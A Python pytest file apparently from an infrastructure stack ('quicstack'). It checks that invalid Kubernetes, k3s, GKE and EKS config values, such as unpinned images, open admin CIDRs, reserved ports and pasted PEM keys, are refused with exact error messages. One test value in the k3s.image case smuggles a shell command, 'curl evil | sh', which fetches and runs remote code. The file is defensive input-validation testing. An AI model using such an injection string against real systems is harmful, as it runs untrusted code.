"""Issue 15, classes 1-7: configs a user can write that used to plan, each refused in its one exact line.

Each case is (class, base stack config, override, message). Class 8 (the stack file itself) lives in
tests/tools/test_plan_stackfile.py and tests/stacks/config/test_keys_and_secrets.py; the valid
controls that must still plan are in tests/stacks/test_hardening_controls.py.
"""

from __future__ import annotations

import pytest

from stacks.config import ConfigError, load
from components.shared.errors import HIDDEN

ACME = {"environment": "production", "email": "ops@example.com"}
K3S = {"cloud": "k3s", "domain": "example.com",
       "k3s": {"project": "quicstack-demo", "region": "europe-west1", "zone": "europe-west1-b", "adminCidrs": ["203.0.113.7/32"]}}
GKE = {"cloud": "gke", "domain": "example.com", "gke": {"project": "quicstack-demo", "region": "europe-west1",
                                                         "zone": "europe-west1-b", "adminCidrs": ["203.0.113.7/32"]}}
EKS = {"cloud": "eks", "domain": "example.com", "eks": {"region": "eu-west-1", "publicAccessCidrs": ["203.0.113.7/32"]},
       "relay": {"webPort": 4443}}
EXISTING = {"domain": "example.com"}
ADMIN = "arn:aws:iam::123456789012:role/Admin"
PEM_KEY = "-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg\n-----END PRIVATE KEY-----\n"
NOT_PINNED = "is not pinned: give a version tag (not a moving tag such as latest, main or nightly) or a digest"
K8S_LABEL = "is not a Kubernetes name (lower-case a-z, 0-9 and '-', starting and ending alphanumeric, at most 63)"
K8S_NAME = "is not a Kubernetes object name (lower-case a-z, 0-9, '-' and '.', at most 253)"
NODE_PORT = "here every public port is a port of the node, opened to the world; choose another port"
OPEN = ("public addresses (more than a /16's 65,536 counts as open): list your own addresses, "
        "or set k3s.allowOpenAdmin true to accept that")
NOT_LE = "for which Let's Encrypt issues no certificate: use acme.environment selfsigned, or a public domain"
IP_HOST = "is an IP address; hosts must be DNS names (Ingress rules and certificates need names)"
DOMAIN_247 = ".".join(["a" * 63, "b" * 63, "c" * 63, "d" * 55])
REQUEST_ABOVE = "a request may not exceed its limit"


def merged(base: dict, override: dict) -> dict:
    out = dict(base)
    for key, value in override.items():
        out[key] = merged(out[key], value) if isinstance(value, dict) and isinstance(out.get(key), dict) else value
    return out


CASES = [
    # 1. Anchors: a trailing newline is not part of any name.
    (1, EXISTING, {"domain": "example.com\n"},
     "quicstack:domain: 'example.com\\n' is not a DNS name (lower-case labels of a-z, 0-9 and '-', at least two)"),
    (1, EXISTING, {"acme": {"environment": "staging", "email": "ops@example.com\n"}},
     "quicstack:acme.email: 'ops@example.com\\n' is not an e-mail address"),
    (1, K3S, {"k3s": {"k3sVersion": "v1.34.9+k3s1\n"}},
     "quicstack:k3s.k3sVersion: 'v1.34.9+k3s1\\n' is not a k3s release such as v1.34.9+k3s1 (a channel or 'latest' is not pinned)"),
    (1, K3S, {"k3s": {"project": "quicstack-demo\n"}},
     "quicstack:k3s.project: 'quicstack-demo\\n' is not a GCP project ID (6-30 characters: lower-case letters, digits and '-', "
     "starting with a letter)"),
    (1, EXISTING, {"publisher": {"enabled": True, "tokenSecret": "publish-token\n"}},
     "quicstack:publisher.tokenSecret: 'publish-token\\n' is not a Secret name (lower-case a-z, 0-9, '-' and '.')"),
    (1, EXISTING, {"relay": {"publicPrefix": "anon\n"}},
     "quicstack:relay.publicPrefix: 'anon\\n' is not a broadcast path (segments of A-Z, a-z, 0-9 and . _ ~ -, joined by '/', "
     "no leading or trailing '/')"),
    (1, K3S, {"k3s": {"zone": "europe-west1-b\n"}}, "quicstack:k3s.zone: 'europe-west1-b\\n' is not a GCP zone such as europe-west1-b"),
    (1, EKS, {"eks": {"region": "eu-west-1\n"}}, "quicstack:eks.region: 'eu-west-1\\n' is not an AWS region name such as eu-west-1"),
    (1, EKS, {"eks": {"admins": [ADMIN + "\n"]}},
     f"quicstack:eks.admins.0: '{ADMIN}\\n' is not an IAM role or user ARN such as arn:aws:iam::123456789012:role/Admin"),
    (1, GKE, {"gke": {"minMasterVersion": "1.34\n"}},
     "quicstack:gke.minMasterVersion: '1.34\\n' is not a GKE version such as 1.34 or 1.34.1-gke.2190000"),
    (1, EXISTING, {"relay": {"auth": "jwt", "jwtKey": "existing", "jwtKeySecret": "relay-auth\n"}},
     "quicstack:relay.jwtKeySecret: 'relay-auth\\n' is not a Secret name (lower-case a-z, 0-9, '-' and '.')"),
    (1, EKS, {"eks": {"name": "quic\n"}},
     "quicstack:eks.name: 'quic\\n' is not a name of lower-case letters, digits and '-' that starts with a letter"),
    # \d and \w match any Unicode digit or letter unless the pattern is ASCII-only.
    (1, EKS, {"eks": {"admins": ["arn:aws:iam::123456789012:role/\u00c4dmin"]}},
     "quicstack:eks.admins.0: 'arn:aws:iam::123456789012:role/\u00c4dmin' is not an IAM role or user ARN such as "
     "arn:aws:iam::123456789012:role/Admin"),
    (1, EKS, {"eks": {"region": "eu-west-\u0661"}}, "quicstack:eks.region: 'eu-west-\u0661' is not an AWS region name such as eu-west-1"),
    (1, EXISTING, {"acme": {"environment": "staging", "email": "ops\"<x>\"@example.com"}},
     "quicstack:acme.email: 'ops\"<x>\"@example.com' is not an e-mail address"),
    # 2. Free strings get their Kubernetes or cloud grammar; quantities are quantities.
    (2, EXISTING, {"ingress": {"className": "Nginx Class"}}, f"quicstack:ingress.className: 'Nginx Class' {K8S_NAME}"),
    (2, EXISTING, {"ingress": {"className": ""}}, f"quicstack:ingress.className: '' {K8S_NAME}"),
    (2, EXISTING, {"envoyDemo": {"namespace": ""}}, f"quicstack:envoyDemo.namespace: '' {K8S_LABEL}"),
    (2, EXISTING, {"envoyDemo": {"namespace": "Quic-Example"}}, f"quicstack:envoyDemo.namespace: 'Quic-Example' {K8S_LABEL}"),
    (2, EXISTING, {"envoyDemo": {"namespace": "kube-system"}},
     "quicstack:envoyDemo.namespace: 'kube-system' is reserved by Kubernetes (kube-* and default): choose a namespace of the demo's own"),
    (2, EXISTING, {"envoyDemo": {"namespace": "default"}},
     "quicstack:envoyDemo.namespace: 'default' is reserved by Kubernetes (kube-* and default): choose a namespace of the demo's own"),
    (2, EXISTING, {"envoyDemo": {"namespace": "moq"}},
     "quicstack:envoyDemo.namespace: 'moq' is the relay's and the watch page's namespace: choose a namespace of the demo's own"),
    (2, EXISTING, {"envoyDemo": {"namespace": "cert-manager"}},
     "quicstack:envoyDemo.namespace: 'cert-manager' is cert-manager's namespace: choose a namespace of the demo's own"),
    (2, GKE, {"dns": {"provider": "clouddns", "zone": "gke.quicstack.example.com"}},
     "quicstack:dns.zone: 'gke.quicstack.example.com' is a DNS name; for clouddns give the managed zone's *name*, e.g. example-com "
     "(gcloud dns managed-zones list)"),
    (2, GKE, {"dns": {"provider": "clouddns", "zone": "Z0123456789ABCDEFGHIJ"}},
     "quicstack:dns.zone: 'Z0123456789ABCDEFGHIJ' looks like a Route53 hosted-zone ID; for clouddns give the managed zone's *name* "
     "(gcloud dns managed-zones list)"),
    (2, GKE, {"dns": {"provider": "clouddns", "zone": "Example_Zone"}},
     "quicstack:dns.zone: 'Example_Zone' is not a Cloud DNS managed-zone name (a-z, 0-9 and '-', starting with a letter, at most 63)"),
    (2, EXISTING, {"dns": {"provider": "clouddns", "zone": "example-com", "project": "quicstack-demo", "credentialsSecret": PEM_KEY}},
     # A pasted private key is refused as a credential in plain config (stacks/config/credentials.py), unechoed.
     "quicstack:dns.credentialsSecret: holds a PEM private key in plain stack config, which is committed and shown by "
     "`pulumi config`: remove it (and rotate it if the file was shared); keep it in a file or a Kubernetes Secret "
     "outside the stack config, and name that"),
    (2, EXISTING, {"dns": {"credentialsSecret": "clouddns-key"}},
     "quicstack:dns.credentialsSecret: 'clouddns-key' is set, but is only read with dns.provider clouddns"),
    (2, EXISTING, {"dns": {"provider": "clouddns", "zone": "example-com", "project": "P"}},
     "quicstack:dns.project: 'P' is not a GCP project ID (6-30 characters: lower-case letters, digits and '-', starting with a letter)"),
    (2, EXISTING, {"dns": {"provider": "route53", "zone": "Z0123456789ABCDEFGHIJ", "region": "Frankfurt"}},
     "quicstack:dns.region: 'Frankfurt' is not an AWS region name such as eu-west-1"),
    (2, EXISTING, {"web": {"broadcast": "../private/feed"}},
     "quicstack:web.broadcast: '../private/feed' has a '.' or '..' segment, which URL normalization removes (moving the path elsewhere)"),
    (2, EXISTING, {"relay": {"publicPrefix": "anon/./x"}},
     "quicstack:relay.publicPrefix: 'anon/./x' has a '.' or '..' segment, which URL normalization removes (moving the path elsewhere)"),
    (2, K3S, {"k3s": {"image": "debian-cloud/debian-12; curl evil | sh"}},
     "quicstack:k3s.image: 'debian-cloud/debian-12; curl evil | sh' is not a GCE image such as debian-cloud/debian-12 "
     "(project/family or project/image)"),
    (2, EKS, {"eks": {"addonVersions": {"coredns": "latest"}}},
     "quicstack:eks.addonVersions.coredns: 'latest' is not an EKS add-on version such as v1.12.4-eksbuild.1"),
    (2, EXISTING, {"dns": {"zone": "example-com"}}, "quicstack:dns.zone: 'example-com' is set, but is only read with dns.provider clouddns or route53"),
    (2, GKE, {"dns": {"provider": "clouddns", "zone": "example-com", "region": "eu-west-1"}},
     "quicstack:dns.region: 'eu-west-1' is set, but is only read with dns.provider route53"),
    (2, EXISTING, {"envoyDemo": {"containerPort": 443}},
     "quicstack:envoyDemo.containerPort: 443 is a privileged port: Envoy runs without capabilities; use 1024-65535 "
     "(the Service maps the public port to it)"),
    (2, EXISTING, {"relay": {"resources": {"cpuLimit": "lots"}}},
     "quicstack:relay.resources.cpuLimit: 'lots' is not a CPU quantity such as 1, 2.5 or 500m"),
    (2, EXISTING, {"web": {"resources": {"memoryLimit": "64MB"}}},
     "quicstack:web.resources.memoryLimit: '64MB' is not a memory quantity such as 128Mi or 1Gi"),
    (2, EXISTING, {"ingress": {"resources": {"cpuLimit": "-1"}}},
     "quicstack:ingress.resources.cpuLimit: '-1' is not a CPU quantity such as 1, 2.5 or 500m"),
    (2, EXISTING, {"relay": {"resources": {"memoryLimit": "512"}}},
     "quicstack:relay.resources.memoryLimit: '512' is not a memory quantity from 1Mi to 256Gi"),
    (2, EXISTING, {"relay": {"resources": {"cpuLimit": "1000"}}},
     "quicstack:relay.resources.cpuLimit: '1000' is not a CPU quantity from 1m to 256"),
    (2, EXISTING, {"relay": {"resources": {"cpuRequest": "2"}}},
     f"quicstack:relay.resources.cpuRequest: '2' is above cpuLimit '1': {REQUEST_ABOVE}"),
    (2, EXISTING, {"envoyDemo": {"resources": {"memoryRequest": "1Gi"}}},
     f"quicstack:envoyDemo.resources.memoryRequest: '1Gi' is above memoryLimit '256Mi': {REQUEST_ABOVE}"),
    # 3. Partial resources keep *this workload's* defaults, so the request the user did not set is the workload's own.
    (3, EXISTING, {"web": {"resources": {"memoryLimit": "8Mi"}}},
     f"quicstack:web.resources.memoryRequest: '16Mi' is above memoryLimit '8Mi': {REQUEST_ABOVE}"),
    (3, EXISTING, {"envoyDemo": {"resources": {"cpuLimit": "50m"}}},
     f"quicstack:envoyDemo.resources.cpuRequest: '100m' is above cpuLimit '50m': {REQUEST_ABOVE}"),
    (3, EXISTING, {"relay": {"resources": {"memoryLimit": "64Mi"}}},
     f"quicstack:relay.resources.memoryRequest: '128Mi' is above memoryLimit '64Mi': {REQUEST_ABOVE}"),
    (3, EXISTING, {"ingress": {"resources": {"cpuLimit": "50m"}}},
     f"quicstack:ingress.resources.cpuRequest: '100m' is above cpuLimit '50m': {REQUEST_ABOVE}"),
    # 4. Security bypasses.
    (4, K3S, {"k3s": {"adminCidrs": ["0.0.0.0/1", "128.0.0.0/1"]}},
     f"quicstack:k3s.adminCidrs: opens SSH and the Kubernetes API to 3,702,258,688 {OPEN}"),
    (4, K3S, {"k3s": {"adminCidrs": ["0.0.0.0/1"]}}, f"quicstack:k3s.adminCidrs: opens SSH and the Kubernetes API to 2,092,957,696 {OPEN}"),
    (4, K3S, {"k3s": {"adminCidrs": ["198.51.100.7/32", "8.0.0.0/8"]}},
     f"quicstack:k3s.adminCidrs: opens SSH and the Kubernetes API to 16,777,216 {OPEN}"),
    (4, K3S, {"envoyDemo": {"publicPort": 22}}, f"quicstack:envoyDemo.publicPort: 22 is a port of the node itself (SSH): {NODE_PORT}"),
    (4, K3S, {"envoyDemo": {"publicPort": 6443}},
     f"quicstack:envoyDemo.publicPort: 6443 is a port of the node itself (the Kubernetes API): {NODE_PORT}"),
    (4, K3S, {"envoyDemo": {"publicPort": 10250}},
     f"quicstack:envoyDemo.publicPort: 10250 is a port of the node itself (the kubelet API): {NODE_PORT}"),
    (4, K3S, {"envoyDemo": {"publicPort": 31000}},
     f"quicstack:envoyDemo.publicPort: 31000 is a port of the node itself (the NodePort range (30000-32767)): {NODE_PORT}"),
    (4, EXISTING, {"envoyDemo": {"publicPort": 2379}},
     f"quicstack:envoyDemo.publicPort: 2379 is a port of the node itself (etcd): {NODE_PORT}"),
    (4, GKE, {"gke": {"adminCidrs": []}},
     "quicstack:gke.adminCidrs: is empty, which closes the control plane to everyone, Pulumi included: list your addresses"),
    # 5. Collisions: one port on the shared address, one name per object.
    (5, EXISTING, {"ingress": {"serviceType": "NodePort"}, "envoyDemo": {"publicPort": 443}},
     "quicstack:envoyDemo.publicPort: 443 collides with the relay on UDP 443: all Services share one address here; choose another port"),
    (5, K3S, {"ingress": {"serviceType": "NodePort"}, "envoyDemo": {"publicPort": 443}},
     "quicstack:envoyDemo.publicPort: 443 collides with the relay on UDP 443: all Services share one address here; choose another port"),
    (5, EXISTING, {"web": {"host": "site.example.com"}, "envoyDemo": {"host": "site.example.com"}},
     "quicstack:envoyDemo.host: 'site.example.com' is also web.host: each host gets its own certificate (a Certificate and Secret "
     "named after the host) and its own route; choose another host"),
    (5, K3S, {"envoyDemo": {"host": "example.com"}},
     "quicstack:envoyDemo.host: 'example.com' is also web.host: each host gets its own certificate (a Certificate and Secret "
     "named after the host) and its own route; choose another host"),
    (5, EXISTING, {"web": {"host": "a-b.example.com"}, "relay": {"host": "a.b-example.com"}},
     "quicstack:relay.host: 'a.b-example.com' gives its Certificate the same name as web.host 'a-b.example.com' "
     "('a-b-example-com', in the namespace both share); choose another host"),
    (5, K3S, {"ingress": {"serviceType": "NodePort", "relayUdp": True}},
     "quicstack:ingress.relayUdp: true needs ingress.serviceType LoadBalancer: a NodePort Service has no public UDP 443 to carry "
     "the relay on"),
    # 6. Images: pinned for real.
    (6, EXISTING, {"relay": {"image": "moqdev/moq-relay:main"}}, f"quicstack:relay.image: 'moqdev/moq-relay:main' {NOT_PINNED}"),
    (6, EXISTING, {"relay": {"image": "moqdev/moq-relay:master"}}, f"quicstack:relay.image: 'moqdev/moq-relay:master' {NOT_PINNED}"),
    (6, EXISTING, {"relay": {"image": "moqdev/moq-relay:edge"}}, f"quicstack:relay.image: 'moqdev/moq-relay:edge' {NOT_PINNED}"),
    (6, EXISTING, {"web": {"image": "nginxinc/nginx-unprivileged:LATEST"}},
     f"quicstack:web.image: 'nginxinc/nginx-unprivileged:LATEST' {NOT_PINNED}"),
    (6, EXISTING, {"envoyDemo": {"image": "envoyproxy/envoy:Nightly"}}, f"quicstack:envoyDemo.image: 'envoyproxy/envoy:Nightly' {NOT_PINNED}"),
    (6, EXISTING, {"relay": {"image": "moqdev/moq-relay: 0.17.10"}}, "quicstack:relay.image: 'moqdev/moq-relay: 0.17.10' contains whitespace"),
    (6, EXISTING, {"relay": {"image": "moqdev/moq-relay:0.17.10\n"}},
     "quicstack:relay.image: 'moqdev/moq-relay:0.17.10\\n' contains whitespace"),
    (6, EXISTING, {"relay": {"image": "moqdev/moq-relay@sha256:abc"}},
     "quicstack:relay.image: 'moqdev/moq-relay@sha256:abc' has a malformed digest: give sha256: and 64 lower-case hex digits"),
    (6, EXISTING, {"envoyDemo": {"image": "envoyproxy/envoy:v1.35.2"}},
     "quicstack:envoyDemo.image: 'envoyproxy/envoy:v1.35.2' is Envoy 1.35; the QUIC-LB fields this stack configures need Envoy "
     "1.36 or later"),
    (6, EXISTING, {"envoyDemo": {"image": "envoyproxy/envoy:distroless-v1.30.1"}},
     "quicstack:envoyDemo.image: 'envoyproxy/envoy:distroless-v1.30.1' is Envoy 1.30; the QUIC-LB fields this stack configures "
     "need Envoy 1.36 or later"),
    (6, EXISTING, {"web": {"image": "Nginx:1.29"}},
     "quicstack:web.image: 'Nginx:1.29' is not an image reference such as registry.example/name:1.2.3 or name@sha256:<64 hex>"),
    # 7. Certificate plans no issuer could carry out, and numbers without a sane bound.
    (7, EXISTING, {"domain": "quicstack.localhost", "acme": ACME},
     f"quicstack:domain: 'quicstack.localhost' is under .localhost, {NOT_LE}"),
    (7, EXISTING, {"relay": {"host": "relay.quicstack.test"}, "acme": {"environment": "staging", "email": "ops@example.com"}},
     f"quicstack:relay.host: 'relay.quicstack.test' is under .test, {NOT_LE}"),
    (7, EXISTING, {"domain": "192.0.2.10"}, f"quicstack:domain: '192.0.2.10' {IP_HOST}"),
    (7, EXISTING, {"relay": {"host": "203.0.113.7"}}, f"quicstack:relay.host: '203.0.113.7' {IP_HOST}"),
    (7, EXISTING, {"domain": "example.123"}, "quicstack:domain: 'example.123' is not a DNS name: its last label is all digits"),
    (7, EXISTING, {"domain": DOMAIN_247},
     "quicstack:domain: makes the relay host 253 characters long; its certificate Secret '<host>-tls' must fit Kubernetes' 253 "
     "characters, so a host has at most 249: use a shorter name or set relay.host"),
    (7, EXISTING, {"envoyDemo": {"host": "e" * 60 + "." + DOMAIN_247[:189]}},
     "quicstack:envoyDemo.host: is 250 characters long; its certificate Secret '<host>-tls' must fit Kubernetes' 253 characters, "
     "so a host has at most 249: use a shorter name"),
    (7, EXISTING, {"acme": {**ACME, "challenge": "dns01"},
                   "dns": {"provider": "clouddns", "zone": "example-com", "project": "quicstack-demo"}},
     "quicstack:dns.credentialsSecret: is required for dns01 through clouddns on an existing cluster: cert-manager has no Google "
     "identity there; name a Secret in namespace cert-manager with a service-account key in key.json"),
    (7, EXISTING, {"acme": {**ACME, "relayChallenge": "dns01"},
                   "dns": {"provider": "route53", "zone": "Z0123456789ABCDEFGHIJ", "region": "eu-west-1"}},
     "quicstack:acme.relayChallenge: 'dns01' through route53 is not possible on an existing cluster: the stack can give "
     "cert-manager no AWS identity there; use http01, or clouddns with dns.credentialsSecret"),
    (7, EKS, {"eks": {"admins": [ADMIN, "arn:aws:iam::123456789012:user/ops", ADMIN]}},
     f"quicstack:eks.admins.2: '{ADMIN}' is listed twice: EKS has one access entry per principal"),
    (7, EKS, {"eks": {"nodes": {"desiredSize": 10**15, "maxSize": 10**15}}},
     "quicstack:eks.nodes.desiredSize: 1000000000000000 is not less than or equal to 100"),
    (7, EKS, {"eks": {"nodes": {"maxSize": 101}}}, "quicstack:eks.nodes.maxSize: 101 is not less than or equal to 100"),
    (7, EXISTING, {"ingress": {"replicas": 1000}}, "quicstack:ingress.replicas: 1000 is not less than or equal to 20"),
]


@pytest.mark.parametrize("klass,base,override,message", CASES,
                         ids=[f"class{c}-{i}-{m.split(':')[1]}" for i, (c, _, _, m) in enumerate(CASES)])
def test_refused_in_one_exact_line(klass, base, override, message):
    with pytest.raises(ConfigError) as err:
        load(merged(base, override))
    assert str(err.value) == message
    assert "\n" not in str(err.value)


def test_every_class_has_cases_and_there_are_at_least_60():
    assert len({(repr(b), repr(o)) for _, b, o, _ in CASES}) == len(CASES) >= 60
    assert {c for c, *_ in CASES} == {1, 2, 3, 4, 5, 6, 7}


@pytest.mark.parametrize("section,override,expected", [
    ("web", {"memoryLimit": "32Mi"}, {"cpuRequest": "10m", "memoryRequest": "16Mi", "cpuLimit": "100m", "memoryLimit": "32Mi"}),
    ("envoyDemo", {"memoryLimit": "128Mi"}, {"cpuRequest": "100m", "memoryRequest": "64Mi", "cpuLimit": "1", "memoryLimit": "128Mi"}),
    ("relay", {"cpuLimit": "2"}, {"cpuRequest": "100m", "memoryRequest": "128Mi", "cpuLimit": "2", "memoryLimit": "512Mi"}),
    ("ingress", {"memoryRequest": "256Mi"}, {"cpuRequest": "100m", "memoryRequest": "256Mi", "cpuLimit": "1", "memoryLimit": "512Mi"}),
])
def test_a_partial_resources_section_keeps_the_workloads_own_defaults(section, override, expected):
    """The defaults are the ones the README documents for each workload (issue 15, class 3)."""
    settings = load({"domain": "example.com", section: {"resources": override}})
    attr = {"envoyDemo": "envoy_demo"}.get(section, section)
    assert getattr(settings, attr).resources.as_config() == expected


@pytest.mark.parametrize("override", [
    {"k3s": {"adminCidrs": ["0.0.0.0/1", "128.0.0.0/1"], "allowOpenAdmin": True}},
    {"k3s": {"adminCidrs": ["203.0.113.7/32", "10.0.0.0/8", "192.168.0.0/16", "198.51.100.0/24"]}},
    {"k3s": {"adminCidrs": ["203.0.0.0/16"]}},
])
def test_admin_lists_within_the_threshold_or_explicitly_open_are_accepted(override):
    load(merged(K3S, override))
